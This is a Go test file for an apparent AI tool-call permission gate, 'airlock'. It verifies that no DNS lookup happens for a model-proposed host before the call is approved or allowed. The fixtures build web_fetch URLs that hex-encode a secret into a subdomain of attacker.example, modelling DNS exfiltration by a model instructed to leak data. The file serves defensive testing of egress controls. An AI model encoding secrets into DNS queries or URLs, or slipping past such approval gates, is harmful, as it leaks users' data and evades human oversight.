package main

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"

	"airlock.dev/airlock/tool"
)

// lookupNamespaceEnv marks the copy of the test binary that runs inside
// the network and mount namespaces TestNoLookupBeforeRun creates; its
// value names the starting process's mount namespace.
const lookupNamespaceEnv = "AIRLOCK_TEST_LOOKUP_NAMESPACE"

// lookupAnswer is the address the test's DNS server gives every A
// query: private, so that a call that runs is refused at dial time, and
// nothing is ever sent to it.
var lookupAnswer = [4]byte{10, 0, 0, 5}

// TestNoLookupBeforeRun: a host name a model chose is resolved only once
// the call may run. A DNS query is itself a message out (its labels can
// carry a secret, as in <hex>.attacker.example), so airlock check, a call
// that asks and a call that is denied must send none; a call that runs
// sends one, which shows the counter counts.
//
// The resolver is the test's own: a DNS server on 127.0.0.1:53 inside a
// new network namespace, named by a resolv.conf bind-mounted over
// /etc/resolv.conf inside a new mount namespace, so that the airlock
// processes the test starts there reach that server and nothing else.
// It needs root (CAP_SYS_ADMIN); without it the test fails, never skips.
func TestNoLookupBeforeRun(t *testing.T) {
	if outer := os.Getenv(lookupNamespaceEnv); outer != "" {
		lookupInNamespace(t, outer)
		return
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(exe, "-test.run=^TestNoLookupBeforeRun$", "-test.count=1", "-test.v")
	outer, err := os.Readlink("/proc/self/ns/mnt")
	if err != nil {
		t.Fatal(err)
	}
	cmd.Env = append(os.Environ(), lookupNamespaceEnv+"="+outer)
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET | syscall.CLONE_NEWNS}
	out, err := cmd.CombinedOutput()
	if err != nil {
		var exit *exec.ExitError
		if !errors.As(err, &exit) {
			t.Fatalf("starting the test in a new network and mount namespace failed (%v): this test needs root, "+
				"or CAP_SYS_ADMIN, to create them; run it as root", err)
		}
		t.Fatalf("inside the namespaces: %v\n%s", err, out)
	}
	t.Logf("inside the namespaces:\n%s", out)
}

// lookupInNamespace is the test proper, in its own namespaces; outer
// names the mount namespace of the process that started it.
func lookupInNamespace(t *testing.T, outer string) {
	isolated(t, outer)
	dns := startDNS(t)
	conf := filepath.Join(t.TempDir(), "resolv.conf")
	if err := os.WriteFile(conf, []byte("nameserver 127.0.0.1\noptions timeout:2 attempts:1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount(conf, "/etc/resolv.conf", "", unix.MS_BIND, ""); err != nil {
		t.Fatalf("bind-mounting the test's resolv.conf: %v", err)
	}

	ws := t.TempDir()
	// AIRLOCK_TEST_SCRIPT keeps TestMain, which the airlock copy of the
	// test binary runs too, from giving each process a config directory
	// (and so an approval key) of its own.
	env := []string{"XDG_CONFIG_HOME=" + t.TempDir(), "HOME=" + t.TempDir(), "AIRLOCK_TEST_SCRIPT=1"}
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "AIRLOCK_") && !strings.HasPrefix(kv, "XDG_CONFIG_HOME=") && !strings.HasPrefix(kv, "HOME=") {
			env = append(env, kv)
		}
	}
	airlock := func(stdin string, args ...string) callOutput {
		t.Helper()
		cmd := exec.Command("airlock", args...)
		cmd.Env = env
		cmd.Stdin = strings.NewReader(stdin)
		var out, errOut bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errOut
		cmd.Run() // a refusal exits 1; the output says what happened
		var got callOutput
		if args[0] == "check" {
			var line checkLine
			if err := json.Unmarshal(out.Bytes(), &line); err != nil {
				t.Fatalf("airlock %q: %v; stdout %q, stderr %q", args, err, out.String(), errOut.String())
			}
			got.Decision = line.Decision
			if line.Code != "" {
				got.Error = &tool.Error{Code: tool.Code(line.Code), Message: line.Message}
			}
			return got
		}
		if err := json.Unmarshal(out.Bytes(), &got); err != nil {
			t.Fatalf("airlock %q: %v; stdout %q, stderr %q", args, err, out.String(), errOut.String())
		}
		return got
	}
	// host is a name whose first label carries a secret, hex-encoded, as a
	// model told to leak one would write it.
	host := func(secret string) string {
		return hex.EncodeToString([]byte(secret)) + ".attacker.example"
	}
	fetch := func(h string) string { return `{"url":"http://` + h + `/x"}` }
	proposal := func(h string) string { return `{"tool":"web_fetch","args":` + fetch(h) + "}\n" }
	code := func(o callOutput) string {
		if o.Error == nil {
			return ""
		}
		return string(o.Error.Code)
	}
	wantNoQuery := func(what, h string) {
		t.Helper()
		if n := dns.count(h); n != 0 {
			t.Errorf("%s: %d DNS queries for %s, want none before the call may run", what, n, h)
		}
	}

	// airlock check executes nothing, in any mode: it judges the URL as
	// written.
	for mode, want := range map[string]string{"auto": "allow", "ask": "ask", "read-only": "deny"} {
		h := host("check " + mode)
		got := airlock(proposal(h), "check", "--workspace", ws, "--mode", mode)
		wantNoQuery("airlock check --mode "+mode, h)
		if got.Decision != want {
			t.Errorf("airlock check --mode %s: %s %s, want %s", mode, got.Decision, code(got), want)
		}
	}

	// A call that asks parks an approval and resolves nothing.
	asked := host("asked")
	got := airlock("", "call", "--json", "--workspace", ws, "--mode", "ask", "--session", "s-ask", "web_fetch", fetch(asked))
	if got.Decision != "ask" || code(got) != "approval_required" || got.Approval == nil {
		t.Fatalf("a web_fetch in mode ask: %s %s, approval %v; want ask approval_required with an approval", got.Decision, code(got), got.Approval)
	}
	wantNoQuery("a call that asks", asked)
	approvalID := got.Approval.ID

	// A call that is denied: by the mode, and by the ledger after every
	// guard has passed (its idempotency key was used for another call).
	denied := host("denied by mode")
	got = airlock("", "call", "--json", "--workspace", ws, "--mode", "read-only", "web_fetch", fetch(denied))
	if got.Decision != "deny" || code(got) != "denied" {
		t.Fatalf("a web_fetch in mode read-only: %s %s, want deny denied", got.Decision, code(got))
	}
	wantNoQuery("a call the mode denies", denied)

	// A call that runs resolves its host: the counter counts. The answer
	// is a private address, which the dialer refuses.
	ran := host("ran")
	got = airlock("", "call", "--json", "--workspace", ws, "--mode", "auto", "--idempotency-key", "k1", "web_fetch", fetch(ran))
	if code(got) != "egress_denied" || !strings.Contains(got.Error.Message, "resolves to 10.0.0.5") {
		t.Fatalf("a web_fetch in mode auto: %s %+v, want egress_denied for the address it resolved to", got.Decision, got.Error)
	}
	if dns.count(ran) == 0 {
		t.Fatalf("a call that ran sent no DNS query for %s: the counter does not count (queries seen: %q)", ran, dns.all())
	}

	reused := host("denied by the ledger")
	got = airlock("", "call", "--json", "--workspace", ws, "--mode", "auto", "--idempotency-key", "k1", "web_fetch", fetch(reused))
	if got.Decision != "deny" || code(got) != "idempotency_key_reused" {
		t.Fatalf("a reused idempotency key: %s %s, want deny idempotency_key_reused", got.Decision, code(got))
	}
	wantNoQuery("a call the ledger denies", reused)

	// Once a person approves the asked call, it runs, and only then
	// resolves its host.
	cmd := exec.Command("airlock", "approve", "--workspace", ws, approvalID)
	cmd.Env = env
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("airlock approve: %v\n%s", err, out)
	}
	wantNoQuery("an approval", asked)
	got = airlock("", "call", "--json", "--workspace", ws, "--mode", "ask", "--session", "s-ask", "web_fetch", fetch(asked))
	if code(got) != "egress_denied" || !strings.Contains(got.Error.Message, "resolves to 10.0.0.5") {
		t.Fatalf("the approved web_fetch: %s %+v, want it run and refused at the dial", got.Decision, got.Error)
	}
	if dns.count(asked) == 0 {
		t.Fatalf("the approved call sent no DNS query for %s", asked)
	}
}

// isolated makes sure the process is in namespaces of its own before it
// binds port 53 or mounts over /etc/resolv.conf: a network namespace with
// only loopback (brought up here) and a mount namespace whose mounts do
// not propagate back to the host's.
func isolated(t *testing.T, outer string) {
	t.Helper()
	self, err := os.Readlink("/proc/self/ns/mnt")
	if err != nil || self == outer {
		t.Fatalf("not in a mount namespace of its own (%s, %v); refusing to touch /etc/resolv.conf", self, err)
	}
	ifs, err := net.Interfaces()
	if err != nil || len(ifs) != 1 || ifs[0].Flags&net.FlagLoopback == 0 {
		t.Fatalf("not in a network namespace of its own: interfaces %v (%v)", ifs, err)
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		t.Fatalf("making the mounts private: %v", err)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	ifr, err := unix.NewIfreq(ifs[0].Name)
	if err != nil {
		t.Fatal(err)
	}
	if err := unix.IoctlIfreq(fd, unix.SIOCGIFFLAGS, ifr); err != nil {
		t.Fatal(err)
	}
	ifr.SetUint16(ifr.Uint16() | unix.IFF_UP)
	if err := unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr); err != nil {
		t.Fatalf("bringing up loopback: %v", err)
	}
}

// dnsCounter is a DNS server that records the name of every query and
// answers each A query with lookupAnswer, other types with no records.
type dnsCounter struct {
	mu    sync.Mutex
	names []string
}

// maxDNSMessage bounds one DNS message the test's server reads.
const maxDNSMessage = 64 << 10

func startDNS(t *testing.T) *dnsCounter {
	t.Helper()
	d := &dnsCounter{}
	pc, err := net.ListenPacket("udp4", "127.0.0.1:53")
	if err != nil {
		t.Fatalf("listening on 127.0.0.1:53/udp: %v", err)
	}
	l, err := net.Listen("tcp4", "127.0.0.1:53")
	if err != nil {
		t.Fatalf("listening on 127.0.0.1:53/tcp: %v", err)
	}
	t.Cleanup(func() { pc.Close(); l.Close() })
	go func() {
		buf := make([]byte, maxDNSMessage)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if out := d.answer(buf[:n]); out != nil {
				pc.WriteTo(out, from)
			}
		}
	}()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(10 * time.Second))
				for {
					var size [2]byte
					if _, err := io.ReadFull(c, size[:]); err != nil {
						return
					}
					msg := make([]byte, binary.BigEndian.Uint16(size[:]))
					if _, err := io.ReadFull(c, msg); err != nil {
						return
					}
					out := d.answer(msg)
					if out == nil {
						return
					}
					c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(out))), out...))
				}
			}()
		}
	}()
	return d
}

func (d *dnsCounter) answer(msg []byte) []byte {
	var p dnsmessage.Parser
	h, err := p.Start(msg)
	if err != nil {
		return nil
	}
	q, err := p.Question()
	if err != nil {
		return nil
	}
	d.mu.Lock()
	d.names = append(d.names, strings.ToLower(strings.TrimSuffix(q.Name.String(), ".")))
	d.mu.Unlock()
	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, Authoritative: true,
		RecursionDesired: h.RecursionDesired, RecursionAvailable: true})
	if b.StartQuestions() != nil || b.Question(q) != nil || b.StartAnswers() != nil {
		return nil
	}
	if q.Type == dnsmessage.TypeA {
		rh := dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 60}
		if b.AResource(rh, dnsmessage.AResource{A: lookupAnswer}) != nil {
			return nil
		}
	}
	out, err := b.Finish()
	if err != nil {
		return nil
	}
	return out
}

// count is how many queries named host, or a name under it.
func (d *dnsCounter) count(host string) int {
	d.mu.Lock()
	defer d.mu.Unlock()
	n := 0
	for _, name := range d.names {
		if name == host || strings.HasSuffix(name, "."+host) {
			n++
		}
	}
	return n
}

func (d *dnsCounter) all() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.names...)
}
